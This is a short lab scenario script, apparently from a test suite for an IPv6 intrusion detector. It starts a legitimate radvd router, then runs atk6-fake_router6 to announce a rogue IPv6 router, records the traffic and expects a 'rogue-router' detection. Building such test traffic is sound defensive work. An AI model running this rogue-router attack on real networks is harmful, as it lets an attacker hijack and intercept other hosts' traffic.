# about: beside the network's IPv6 router an attacker announces itself as a better one
# tools: radvd atk6-fake_router6
# expect: rogue-router
scenario_lab() { lab_up_switch; }
scenario() {
  printf 'interface s0 { AdvSendAdvert on; MinRtrAdvInterval 3; MaxRtrAdvInterval 4; prefix 2001:db8::/64 { }; };\n' > "$work/radvd.conf"
  server sysctl -qw net.ipv6.conf.all.forwarding=1
  server radvd -n -u root -C "$work/radvd.conf" -p "$work/radvd.pid" > /dev/null 2>&1 &
  sleep 1
  start_recording attacks/fake-router c0
  attacker timeout 12 atk6-fake_router6 a0 2001:db8:66::/64 > /dev/null 2>&1 || true
  stop_recording
}
